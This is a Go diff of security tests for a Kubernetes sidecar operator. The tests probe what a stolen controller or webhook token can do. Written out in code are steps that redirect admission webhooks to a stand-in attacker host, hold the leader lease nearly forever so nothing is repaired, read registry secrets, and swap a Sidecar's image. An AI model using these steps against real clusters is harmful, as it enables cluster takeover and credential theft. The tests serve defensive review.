@@ -12,7 +12,6 @@ import (
 	"time"
 
 	admissionv1 "k8s.io/api/admissionregistration/v1"
-	authorizationv1 "k8s.io/api/authorization/v1"
 	coordinationv1 "k8s.io/api/coordination/v1"
 	corev1 "k8s.io/api/core/v1"
 	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
@@ -36,8 +35,8 @@ import (
 // the leader lease, so that no controller repairs any of it.
 func TestReview6StolenControllerTokenRewritesWebhookConfigurations(t *testing.T) {
 	ctx := context.Background()
-	op, _, _ := bindOperatorRoles(t, k8s, cfg, operatorNamespace, webhookconfig.GrantingServiceAccount, "controller")
-	installGrantPolicy(t, k8s, op, operatorNamespace)
+	op, _, _ := bindOperatorRoles(t, k8s, cfg, webhookconfig.GrantingServiceAccount, "controller")
+	installGrantPolicy(t, k8s, op)
 
 	url := "https://attacker.example.com/mutate"
 	everything := []admissionv1.RuleWithOperations{{
@@ -107,7 +106,7 @@ func TestReview6StolenControllerTokenRewritesWebhookConfigurations(t *testing.T)
 	// nothing above is repaired and no grant is withdrawn.
 	leaseKey := client.ObjectKey{Namespace: operatorNamespace, Name: "sidecar-operator-leader"}
 	forever := &coordinationv1.Lease{ObjectMeta: metav1.ObjectMeta{Namespace: operatorNamespace, Name: leaseKey.Name},
-		Spec: coordinationv1.LeaseSpec{HolderIdentity: ptr.To("attacker"), LeaseDurationSeconds: ptr.To[int32](1 << 30),
+		Spec: coordinationv1.LeaseSpec{HolderIdentity: new("attacker"), LeaseDurationSeconds: new(int32(1 << 30)),
 			RenewTime: &metav1.MicroTime{Time: time.Now()}}}
 	var err error
 	var have coordinationv1.Lease
@@ -141,7 +140,7 @@ func TestReview6StolenWebhookTokenReadsEverySecretOfItsNamespace(t *testing.T) {
 		Data:       map[string][]byte{corev1.DockerConfigJsonKey: []byte(`{"auths":{"registry.example.com":{"auth":"cm9vdDpodW50ZXIy"}}}`)},
 	}
 	createAdmin(t, source)
-	wh, _, _ := bindOperatorRoles(t, k8s, cfg, operatorNamespace, "review6-webhook", "webhook")
+	wh, _, _ := bindOperatorRoles(t, k8s, cfg, "review6-webhook", "webhook")
 
 	var got corev1.Secret
 	if err := wh.Get(ctx, client.ObjectKeyFromObject(source), &got); err == nil {
@@ -165,25 +164,6 @@ func TestReview6StolenWebhookTokenReadsEverySecretOfItsNamespace(t *testing.T) {
 	}
 }
 
-// TestReview6StolenWebhookTokenIsAnAuthorizationOracle: docs (issue 24) say
-// the network-facing webhook is no longer an authorization oracle. Its
-// token still is: it may create SubjectAccessReviews about anyone, and
-// TokenReviews of any token it finds.
-func TestReview6StolenWebhookTokenIsAnAuthorizationOracle(t *testing.T) {
-	ctx := context.Background()
-	wh, _, _ := bindOperatorRoles(t, k8s, cfg, operatorNamespace, "review6-webhook-sar", "webhook")
-	review := &authorizationv1.SubjectAccessReview{Spec: authorizationv1.SubjectAccessReviewSpec{
-		User:               webhookconfig.GrantingUser(operatorNamespace),
-		ResourceAttributes: &authorizationv1.ResourceAttributes{Verb: "escalate", Group: "rbac.authorization.k8s.io", Resource: "clusterroles"},
-	}}
-	if err := wh.Create(ctx, review); err == nil {
-		t.Errorf("HOLE (low): the webhook's ServiceAccount asked the apiserver's authorizer about another user (%s may escalate clusterroles: %v); "+
-			"its metrics port needs this only for its own callers", review.Spec.User, review.Status.Allowed)
-	} else {
-		t.Logf("held: %v", err)
-	}
-}
-
 // TestReview6StolenControllerTokenRewritesASidecar: the controllers patch
 // Sidecars (finalizers). A patch of the spec, the Sidecar's image for one,
 // would run the attacker's code in every pod it selects; the author policy
@@ -194,8 +174,8 @@ func TestReview6StolenControllerTokenRewritesASidecar(t *testing.T) {
 	ctx := context.Background()
 	sc := exampleSidecars(t)["fluentd"]
 	applySidecar(t, sc)
-	op, _, _ := bindOperatorRoles(t, k8s, cfg, operatorNamespace, webhookconfig.GrantingServiceAccount, "controller")
-	installGrantPolicy(t, k8s, op, operatorNamespace)
+	op, _, _ := bindOperatorRoles(t, k8s, cfg, webhookconfig.GrantingServiceAccount, "controller")
+	installGrantPolicy(t, k8s, op)
 	var have v1alpha1.Sidecar
 	if err := k8s.Get(ctx, client.ObjectKeyFromObject(sc), &have); err != nil {
 		t.Fatal(err)
